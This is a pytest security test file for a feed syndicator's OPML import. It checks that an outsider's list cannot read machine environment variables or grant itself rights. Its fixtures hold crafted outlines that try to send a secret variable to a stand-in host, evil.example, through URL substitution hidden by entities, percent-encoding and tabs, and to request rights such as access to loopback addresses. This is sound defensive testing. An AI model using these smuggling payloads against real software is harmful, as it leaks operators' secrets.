"""An imported list of a stranger reads no variable of this machine and gives no rights.
The operator's own list does both, if the operator says so. Every command is a process, and a server
records what arrives."""

from __future__ import annotations

import tomllib
from collections.abc import Iterator, Mapping
from pathlib import Path
from subprocess import CompletedProcess
from typing import Any

import pytest

from tests import commands
from tests.aged.web import Answer, Web, serve_web
from tests.cli.sites import make_rss, make_story_page

SECRET = "s3ntinel-of-this-machine"
SETTINGS = '[site]\ncontact = "a@feeds.example"\n[fetch]\npause = 0\nproxy = "{proxy}"\n'
OURS = "xmlns:s='urn:x-syndicator:opml'"
RIGHTS = (
    "s:key='evil' s:allow='[\"127.0.0.0/8\"]' s:speaks_for='[\"victim.example\"]'"
    " s:force='true' s:every='5m' s:headers_env='{\"X-Key\": \"OTHER_SECRET\"}' s:robots=\"ignore\""
    ' s:content="full" s:licence="CC0" s:tags=\'["Sea"]\''
)
# An outline by name: each is one way to spell an address with a variable, or to ask for a right.
OUTLINES = {
    "plain": "<outline text='E' xmlUrl='http://evil.example/o?x=${OTHER_SECRET}'/>",
    "in the path": "<outline text='E' xmlUrl='http://evil.example/${OTHER_SECRET}/feed'/>",
    "entities": (
        "<outline text='E' xmlUrl='http://evil.example/o?x=&#36;&#x7b;OTHER_SECRET&#125;'/>"
    ),
    "percent": "<outline text='E' xmlUrl='http://evil.example/o?x=$%7BOTHER_SECRET%7d'/>",
    "name in percent": "<outline text='E' xmlUrl='http://evil.example/o?x=$%7BOTHER%5FSECRET%7D'/>",
    "tab in between": "<outline text='E' xmlUrl='http://evil.example/o?x=$&#9;{OTHER_SECRET}'/>",
    "dollar in percent": "<outline text='E' xmlUrl='http://evil.example/o?x=%24{OTHER_SECRET}'/>",
    "another attribute": (
        "<outline text='E' type='rss' URL='http://evil.example/o?x=${OTHER_SECRET}'/>"
    ),
    "nested": (
        "<outline text='A'><outline text='B'><outline text='E'"
        " xmlUrl='http://evil.example/o?x=${OTHER_SECRET}'/></outline></outline>"
    ),
    "our namespace": (
        f"<outline {OURS} {RIGHTS} text='E' xmlUrl='http://evil.example/o?x=${{OTHER_SECRET}}'/>"
    ),
    "our namespace, a tab": (
        f"<outline {OURS} {RIGHTS} text='E'"
        " xmlUrl='http://evil.example/o?x=$&#9;{OTHER_SECRET}'/>"
    ),
    "rights": f"<outline {OURS} {RIGHTS} text='E' xmlUrl='http://evil.example/feed'/>",
    "around": (
        "<outline text='${OTHER_SECRET}' title='${OTHER_SECRET}'"
        " category='${OTHER_SECRET}'><outline text='${OTHER_SECRET}'"
        " htmlUrl='http://evil.example/${OTHER_SECRET}'"
        " xmlUrl='http://evil.example/feed'/></outline>"
    ),
}


HARMLESS = ("dollar in percent", "rights", "around")  # those whose address names no variable


class FollowingInstance:
    """An instance whose environment has a secret, and a web that records each request."""

    def __init__(self, folder: Path, web: Web) -> None:
        self.folder = folder
        self.config = folder / "config"
        self.web = web
        self.config.mkdir()
        (self.config / "syndicator.toml").write_text(SETTINGS.format(proxy=web.proxy))
        (self.config / "sources.toml").write_text("")
        (self.config / "taxonomy.toml").write_text('[[tag]]\nname = "Sea"\n')
        web.answers = {"http://evil.example/feed": make_rss("E", "http://evil.example/", [])}

    def run_command(self, *words: str) -> CompletedProcess[str]:
        environ = {"PATH": "/usr/bin:/bin", "HOME": str(self.folder), "OTHER_SECRET": SECRET}
        return commands.run_syndicator(*words, "--config", str(self.config), environ=environ)

    def write_list(self, outline: str) -> str:
        path = self.folder / "list.opml"
        path.write_text(f"<opml version='2.0'>\n<body>\n{outline}\n</body></opml>")
        return str(path)

    @property
    def sources(self) -> list[dict[str, Any]]:
        written: list[dict[str, Any]] = tomllib.loads(
            (self.config / "sources.toml").read_text()
        ).get("source", [])
        return written


@pytest.fixture
def following_instance(tmp_path: Path) -> Iterator[FollowingInstance]:
    with serve_web() as web:
        yield FollowingInstance(tmp_path, web)


GIVEN = frozenset(("allow", "content", "force", "headers_env", "licence", "robots", "speaks_for"))


def name_given(source: Mapping[str, Any]) -> set[str]:
    """The rights of a table of sources.toml, and its address if it names a variable."""
    is_variable = "OTHER" in source["url"] and "%24" not in source["url"]
    return {*GIVEN & source.keys(), *([source["url"]] if is_variable else [])}


@pytest.mark.parametrize("name", OUTLINES)
def test_a_list_reads_no_variable_and_gives_no_right(
    following_instance: FollowingInstance, name: str
) -> None:
    """A stranger's list cannot put a secret into an address or give a source rights."""
    done = following_instance.run_command("import", following_instance.write_list(OUTLINES[name]))
    following_instance.run_command("refresh", "--all")

    assert done.returncode == 0
    assert not [address for address in following_instance.web.asked if SECRET in address]
    assert not any(map(name_given, following_instance.sources))

    if name in HARMLESS:
        assert len(following_instance.sources) == 1
        assert following_instance.web.asked
    else:
        assert (
            "list.opml line 3: E: its address names a variable of this machine, OTHER_SECRET"
            in done.stdout
        )
        assert not following_instance.sources
        assert not following_instance.web.asked
    checked = following_instance.run_command("check")

    assert checked.returncode == 0
    assert "source-rights" not in checked.stdout


def test_the_rights_that_a_list_asks_for_are_named(following_instance: FollowingInstance) -> None:
    """Rights that an imported OPML list asks for are not given, and the output names them; harmless
    settings (key, tags, interval) are taken."""
    done = following_instance.run_command(
        "import", "--no-refresh", following_instance.write_list(OUTLINES["rights"])
    )
    rights = "allow, content, force, headers_env, licence, robots, speaks_for"

    assert (
        f"not taken: {following_instance.folder}/list.opml line 3: E: {rights}; `--trust-own`"
        in done.stdout
    )
    assert following_instance.sources == [
        {"key": "evil", "url": "http://evil.example/feed", "tags": ["Sea"], "every": "5m"}
    ]


@pytest.mark.parametrize(
    "way", ["add a file", "add an address", "import a text", "import a folder"]
)
def test_no_other_way_in_is_trusted(following_instance: FollowingInstance, way: str) -> None:
    """A list gives no rights and reads no secret by any way of adding it: as a file, an address,
    plain text or in a folder. (Console, API: tests/console.)"""
    path = following_instance.write_list(f"{OUTLINES['rights']}\n{OUTLINES['plain']}")
    if way == "add a file":
        following_instance.run_command("add", "--yes", path)
    elif way == "add an address":
        listed = Answer(body=Path(path).read_text(), type="text/x-opml")
        following_instance.web.answers = {
            **following_instance.web.answers,
            "http://evil.example/list.opml": listed,
        }
        following_instance.run_command("add", "--yes", "http://evil.example/list.opml")
    elif way == "import a text":
        text = following_instance.folder / "list.txt"
        text.write_text("http://evil.example/o?x=${OTHER_SECRET}\n")
        assert following_instance.run_command("import", str(text)).returncode != 0
    else:
        lists = following_instance.folder / "lists"
        lists.mkdir()
        Path(path).rename(lists / "list.opml")
        following_instance.run_command("import", str(lists))
    following_instance.run_command("refresh", "--all")

    assert len(following_instance.sources) == way.startswith("add")
    assert not any(map(name_given, following_instance.sources))
    assert not [address for address in following_instance.web.asked if SECRET in address]


def test_an_export_of_ones_own_comes_back_whole_and_names_what_it_brings(
    following_instance: FollowingInstance,
) -> None:
    """With `--trust-own`, the operator's own export restores all sources with their rights and
    variables, and names them."""
    path = following_instance.config / "sources.toml"
    path.write_text(
        '[[source]]\nkey = "mine"\nurl = "http://mine.example/o?x=${OTHER_SECRET}"\nspeaks_for ='
        ' ["b.example"]\nheaders_env = { X-Key = "OTHER_SECRET" }\n[[source]]\nkey = "two"\nurl ='
        ' "http://two.example/feed"\n'
    )
    before = following_instance.sources
    exported = following_instance.folder / "own.opml"
    exported.write_text(following_instance.run_command("export").stdout)
    path.write_text("")
    dry = following_instance.run_command("import", "--dry-run", "--trust-own", str(exported)).stdout
    done = following_instance.run_command("import", "--trust-own", str(exported))
    line = (
        'given: mine: headers_env = { "X-Key" = "OTHER_SECRET" }, speaks_for = ["b.example"],'
        " ${OTHER_SECRET}\n"
    )

    assert line in dry
    assert line in done.stdout
    assert "given: two" not in done.stdout
    assert following_instance.sources == before
    assert f"http://mine.example/o?x={SECRET}" in following_instance.web.asked

    checked = following_instance.run_command("check")

    assert f"{path}:1: info: source 'mine': it has headers_env" in checked.stdout
    assert checked.stdout.endswith("no problems found\n")
    assert checked.returncode == 0


def test_a_list_takes_no_feed_of_a_source_that_was_removed(
    following_instance: FollowingInstance,
) -> None:
    """A list cannot take the key of a removed source, whose readers would get a stranger's
    articles; the victim itself gets its key again."""
    victim = {"key": "victim", "url": "http://victim.example/feed"}
    following_instance.web.answers = {
        victim["url"]: make_rss(
            "V", "http://victim.example/", [("Ferries", "http://victim.example/ferries")]
        ),
        "http://victim.example/ferries": make_story_page("Ferries"),
        "http://evil.example/feed": make_rss("E", "http://evil.example/", []),
    }
    (following_instance.config / "sources.toml").write_text(
        f'[[source]]\nkey = "victim"\nurl = "{victim["url"]}"\n'
    )
    following_instance.run_command("refresh", "--all")

    assert (following_instance.folder / "feeds/public/sources/victim.atom").exists()

    following_instance.run_command("remove", "victim")
    # a stranger's list asks for the key of the removed source
    outline = f"<outline {OURS} s:key='victim' text='{{}}' xmlUrl='{{}}'/>"
    following_instance.run_command(
        "import",
        "--no-refresh",
        following_instance.write_list(outline.format("E", "http://evil.example/feed")),
    )

    assert [source["key"] for source in following_instance.sources] == ["evil"]

    following_instance.run_command(
        "import", "--no-refresh", following_instance.write_list(outline.format("V", victim["url"]))
    )

    assert [source["key"] for source in following_instance.sources] == ["evil", "victim"]
